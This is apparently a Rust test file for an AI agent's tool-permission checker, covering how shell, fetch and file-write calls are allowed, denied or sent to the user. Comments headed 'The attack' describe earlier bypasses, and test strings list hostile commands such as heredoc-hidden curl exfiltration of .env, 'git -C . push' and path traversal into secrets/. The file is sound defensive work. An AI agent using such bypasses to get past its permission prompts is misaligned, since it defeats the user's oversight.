#![allow(clippy::unwrap_used)]

use serde_json::json;

use super::*;

fn rules(allow: &[&str], deny: &[&str]) -> Permissions {
    let parse = |list: &[&str]| list.iter().map(|r| Rule::parse(r).unwrap()).collect();
    Permissions::new(vec![(
        Layer::User,
        RuleSet {
            allow: parse(allow),
            deny: parse(deny),
        },
    )])
}

fn shell(permissions: &Permissions, command: &str) -> Verdict {
    permissions.check(
        "run_shell",
        RuleSubject::Command,
        &json!({ "command": command }),
        None,
    )
}

fn offered(subject: RuleSubject, args: Value) -> Vec<String> {
    let tool = match subject {
        RuleSubject::Command => "run_shell",
        RuleSubject::Host => "web_fetch",
        RuleSubject::Path => "write_file",
    };
    (offers(tool, subject, &args).iter())
        .map(ToString::to_string)
        .collect()
}

#[test]
fn web_fetch_rules_match_the_host_and_port() {
    let p = rules(&["web_fetch(docs.rs)", "web_fetch(*.example.com)"], &[]);
    let fetch = |url: &str| p.check("web_fetch", RuleSubject::Host, &json!({ "url": url }), None);
    assert_eq!(fetch("https://docs.rs/tokio"), Verdict::Allow);
    assert_eq!(fetch("http://a.example.com/x"), Verdict::Allow);
    assert_eq!(fetch("http://example.com/x"), Verdict::Allow);
    assert_eq!(
        fetch("http://docs.rs.evil.net/"),
        Verdict::Ask { why: None }
    );
    // A rule without a port allows the default ports only.
    assert_eq!(fetch("http://docs.rs:8080/"), Verdict::Ask { why: None });
    assert_eq!(fetch("http://127.0.0.1:8080/"), Verdict::Ask { why: None });
    assert_eq!(fetch("not a url"), Verdict::Ask { why: None });
    assert_eq!(
        offered(RuleSubject::Host, json!({"url": "http://127.0.0.1:9/x"})),
        ["web_fetch(127.0.0.1:9)"]
    );
}

/// The attack: a yes for `127.0.0.1:A` covered every port of the host, and a deny on
/// `localhost` did not cover the other spellings of this machine.
#[test]
fn a_host_rule_is_per_port_and_every_spelling_of_this_machine_is_one() {
    let p = rules(&["web_fetch(127.0.0.1:8080)"], &[]);
    let fetch = |p: &Permissions, url: &str| {
        p.check("web_fetch", RuleSubject::Host, &json!({ "url": url }), None)
    };
    assert_eq!(fetch(&p, "http://127.0.0.1:8080/a"), Verdict::Allow);
    assert_eq!(
        fetch(&p, "http://127.0.0.1:9090/a"),
        Verdict::Ask { why: None }
    );
    assert_eq!(fetch(&p, "http://127.0.0.1/a"), Verdict::Ask { why: None });
    let deny = rules(&["web_fetch"], &["web_fetch(localhost)"]);
    for url in [
        "http://localhost:1/",
        "http://127.0.0.1:2/",
        "http://[::1]:3/",
        "http://[::ffff:127.0.0.1]:4/",
        "http://0.0.0.0:5/",
        "http://127.0.0.2/",
    ] {
        assert!(matches!(fetch(&deny, url), Verdict::Deny { .. }), "{url}");
    }
    assert_eq!(fetch(&deny, "https://docs.rs/"), Verdict::Allow);
    let deny_ip = rules(&["web_fetch"], &["web_fetch(127.0.0.1)"]);
    assert!(matches!(
        fetch(&deny_ip, "http://localhost:8080/"),
        Verdict::Deny { .. }
    ));
}

#[test]
fn rules_parse_and_print_the_same() {
    for text in ["run_shell(cargo test*)", "write_file", "edit_file(src/*)"] {
        assert_eq!(Rule::parse(text).unwrap().to_string(), text);
    }
    assert!(Rule::parse("run_shell(ls").is_err());
    assert!(Rule::parse("(ls)").is_err());
    assert!(Rule::parse("run_shell()").is_err());
}

#[test]
fn every_command_of_a_chain_must_be_allowed() {
    let p = rules(
        &[
            "run_shell(git status)",
            "run_shell(cargo test*)",
            "run_shell(ls*)",
        ],
        &[],
    );
    assert_eq!(shell(&p, "git status"), Verdict::Allow);
    assert_eq!(shell(&p, "cargo test --all && ls -la | ls"), Verdict::Allow);
    assert_eq!(shell(&p, "ls *.rs"), Verdict::Allow);
    assert_eq!(shell(&p, "cargo tests"), Verdict::Ask { why: None });
    assert_eq!(
        shell(&p, "git status; rm -rf target"),
        Verdict::Ask { why: None }
    );
    assert_eq!(shell(&p, "git status --short"), Verdict::Ask { why: None });
    let Verdict::Ask { why: Some(why) } = shell(&p, "ls $(rm -rf ~)") else {
        panic!("a substitution matched an allow rule");
    };
    assert!(why.contains("command substitution"), "{why}");
    assert!(matches!(
        shell(&p, "ls > .git/config"),
        Verdict::Ask { why: Some(_) }
    ));
    assert!(matches!(
        shell(&p, "ls `rm x`"),
        Verdict::Ask { why: Some(_) }
    ));
}

/// The attack: with the README's `run_shell(ls*)` (or an exact `git status`), a heredoc
/// whose delimiter the shell reads differently from the parser hid a `curl`; `eval`,
/// `source`, aliases and functions hide what runs too.
#[test]
fn what_the_parser_cannot_prove_never_matches_an_allow_rule() {
    let p = rules(&["run_shell(ls*)", "run_shell(git status)"], &[]);
    for command in [
        "ls <<E\"O\"F\nEOF\ncurl -d @.env http://127.0.0.1:9/\nE\"O\"F",
        "git status <<'EOF'\nEOF\ncurl x\nEOF",
        "eval ls",
        "eval 'curl x'",
        "source ./ls",
        ". ./x",
        "alias ls='curl x'\nls",
        "ls() { curl x; }; ls",
        "sh -c ls",
        "/tmp/x/ls",
        "./ls",
        "env LD_PRELOAD=./x.so ls",
        "ls $(curl x)",
        "ls $'\\x41'",
        "xargs ls",
    ] {
        assert!(
            matches!(shell(&p, command), Verdict::Ask { .. }),
            "{command}: {:?}",
            shell(&p, command)
        );
    }
    // What a wrapper without options runs is still the program.
    assert_eq!(shell(&p, "command ls -la"), Verdict::Allow);
}

/// The attack: under `run_shell(git status)`, `git status > Makefile` overwrote the file.
#[test]
fn a_redirection_must_be_allowed_by_the_rule() {
    let p = rules(
        &[
            "run_shell(git status)",
            "run_shell(ls*)",
            "run_shell(git log > log.txt)",
        ],
        &[],
    );
    assert_eq!(
        shell(&p, "git status > Makefile"),
        Verdict::Ask { why: None }
    );
    assert_eq!(
        shell(&p, "git status >> Makefile"),
        Verdict::Ask { why: None }
    );
    assert_eq!(shell(&p, "ls -la 2> Makefile"), Verdict::Ask { why: None });
    assert_eq!(shell(&p, "git log > log.txt"), Verdict::Allow);
    assert_eq!(shell(&p, "git log > other.txt"), Verdict::Ask { why: None });
    assert_eq!(shell(&p, "git status 2>/dev/null"), Verdict::Allow);
    assert_eq!(shell(&p, "git status 2>&1 | ls"), Verdict::Allow);
}

#[test]
fn a_deny_rule_wins_anywhere_in_the_command() {
    let p = rules(&["run_shell"], &["run_shell(git push*)"]);
    assert_eq!(shell(&p, "ls"), Verdict::Allow);
    for command in [
        "git push",
        "ls && git push origin main",
        "echo $(git push -f)",
    ] {
        assert!(
            matches!(shell(&p, command), Verdict::Deny { .. }),
            "{command}"
        );
    }
}

/// The attack: `git -C . push`, `/usr/bin/git push` and `command git push` pushed past a
/// deny on `git push*` under full-auto.
#[test]
fn a_deny_rule_matches_the_program_that_runs() {
    let p = rules(
        &["run_shell"],
        &["run_shell(git push*)", "run_shell(rm -rf /)"],
    );
    for command in [
        "git -C . push",
        "/usr/bin/git push",
        "command git push",
        "exec git push origin",
        "env GIT_TRACE=1 git push",
        "nice -n 5 timeout 10 git push",
        "git --git-dir=.git --work-tree . push",
        "git -c user.name=x push",
        "git -c alias.p=push p",
        "sh -c 'git push'",
        "bash -c \"command git push\"",
        "eval git push",
        "find . -exec git push \\;",
        "xargs git",
        "$GIT push",
        "git $SUB",
        "git pu*",
        "source ./push.sh",
        "ls <<E\"O\"F\nEOF\ngit push\nE\"O\"F",
        "sudo -u me git push",
    ] {
        assert!(
            matches!(shell(&p, command), Verdict::Deny { .. }),
            "{command}: {:?}",
            shell(&p, command)
        );
    }
    for command in ["git status", "git -C . status", "ls *.rs", "command -v git"] {
        assert_eq!(shell(&p, command), Verdict::Allow, "{command}");
    }
    // The deny rule's own program is resolved the same way.
    let by_path = rules(&["run_shell"], &["run_shell(/usr/bin/git push*)"]);
    assert!(matches!(shell(&by_path, "git push"), Verdict::Deny { .. }));
    // A rule naming a wrapper matches the wrapper.
    let wrapper = rules(&["run_shell"], &["run_shell(sudo*)"]);
    assert!(matches!(
        shell(&wrapper, "nice sudo ls"),
        Verdict::Deny { .. }
    ));
    assert_eq!(shell(&wrapper, "ls"), Verdict::Allow);
}

/// The attack: `./secrets/x` and `secrets/../secrets/x` were written past a deny on
/// `secrets/**`.
#[test]
fn path_rules_match_normalised_paths() {
    let p = rules(&["write_file"], &["write_file(secrets/**)"]);
    let check = |path: &str, physical: Option<&str>| {
        p.check(
            "write_file",
            RuleSubject::Path,
            &json!({ "path": path }),
            physical,
        )
    };
    for path in [
        "secrets/x",
        "./secrets/x",
        "secrets/../secrets/x",
        "a/../secrets/./x",
        "secrets//x",
    ] {
        assert!(matches!(check(path, None), Verdict::Deny { .. }), "{path}");
    }
    // A link that leads into the denied directory: the physical path is denied too.
    assert!(matches!(
        check("link/x", Some("secrets/x")),
        Verdict::Deny { .. }
    ));
    // A path that cannot be placed cannot be cleared.
    assert!(matches!(check("../x", None), Verdict::Deny { .. }));
    assert_eq!(check("src/a.rs", Some("src/a.rs")), Verdict::Allow);
}

#[test]
fn file_tools_match_by_path() {
    let p = rules(&["write_file(src/*)"], &["write_file(src/secret.rs)"]);
    let check = |path: &str| {
        p.check(
            "write_file",
            RuleSubject::Path,
            &json!({ "path": path }),
            None,
        )
    };
    assert_eq!(check("src/main.rs"), Verdict::Allow);
    assert_eq!(check("./src/main.rs"), Verdict::Allow);
    assert!(matches!(check("src/secret.rs"), Verdict::Deny { .. }));
    assert!(matches!(check("src/./secret.rs"), Verdict::Deny { .. }));
    assert_eq!(check("build.rs"), Verdict::Ask { why: None });
    assert_eq!(check("src/../x"), Verdict::Ask { why: None });
    assert_eq!(check("srcx/main.rs"), Verdict::Ask { why: None });
    // A link inside `src` to elsewhere: the allow rule must match where it leads too.
    assert_eq!(
        p.check(
            "write_file",
            RuleSubject::Path,
            &json!({ "path": "src/link" }),
            Some("/home/me/.bashrc"),
        ),
        Verdict::Ask { why: None }
    );
}

/// The attack: for a chained command "always" offered only `run_shell` (every command).
#[test]
fn always_offers_exactly_the_call_and_never_more() {
    assert_eq!(
        offered(RuleSubject::Command, json!({"command": "cargo test --all"})),
        ["run_shell(cargo test --all)"]
    );
    assert_eq!(
        offered(
            RuleSubject::Command,
            json!({"command": "git status && cargo test | wc -l; git status"})
        ),
        ["run_shell(git status) and run_shell(cargo test) and run_shell(wc -l)"]
    );
    assert_eq!(
        offered(
            RuleSubject::Command,
            json!({"command": "git log > 'my log.txt'"})
        ),
        ["run_shell(git log > 'my log.txt')"]
    );
    // What no allow rule can match is offered nothing (the call may still run once).
    for command in ["ls $(curl x)", "ls *.rs", "eval ls", "ls > .git/x"] {
        assert!(
            offered(RuleSubject::Command, json!({ "command": command })).is_empty(),
            "{command}"
        );
    }
    assert_eq!(
        offered(RuleSubject::Path, json!({"path": "./src/../src/a.rs"})),
        ["write_file(src/a.rs)"]
    );
    assert_eq!(offered(RuleSubject::Path, json!({})), ["write_file"]);
    // Each offered rule allows the call it was offered for.
    let line = "git status && cargo test | wc -l";
    let offer = &offers(
        "run_shell",
        RuleSubject::Command,
        &json!({ "command": line }),
    )[0];
    let mut p = Permissions::default();
    for rule in &offer.rules {
        p.allow(Layer::Session, rule.clone());
    }
    assert_eq!(shell(&p, line), Verdict::Allow);
    assert_eq!(
        shell(&p, "git status && rm -rf x"),
        Verdict::Ask { why: None }
    );
    let redirected = offers(
        "run_shell",
        RuleSubject::Command,
        &json!({ "command": "git log > 'my log.txt'" }),
    );
    let mut p = Permissions::default();
    p.allow(Layer::Session, redirected[0].rules[0].clone());
    assert_eq!(shell(&p, "git log > 'my log.txt'"), Verdict::Allow);
}

#[test]
fn rules_are_listed_by_layer_and_removed_by_number() {
    let mut p = rules(&["run_shell(ls*)"], &["run_shell(git push*)"]);
    p.allow(Layer::Session, Rule::parse("write_file").unwrap());
    let listed: Vec<String> = (p.list().iter())
        .map(|(layer, kind, rule)| format!("{layer} {kind} {rule}"))
        .collect();
    assert_eq!(
        listed,
        [
            "session allow write_file",
            "user allow run_shell(ls*)",
            "user deny run_shell(git push*)"
        ]
    );
    let removed = p.remove(1).unwrap();
    assert_eq!(removed.2.to_string(), "run_shell(ls*)");
    assert_eq!(p.list().len(), 2);
    p.clear_session();
    assert_eq!(p.list().len(), 1);
}
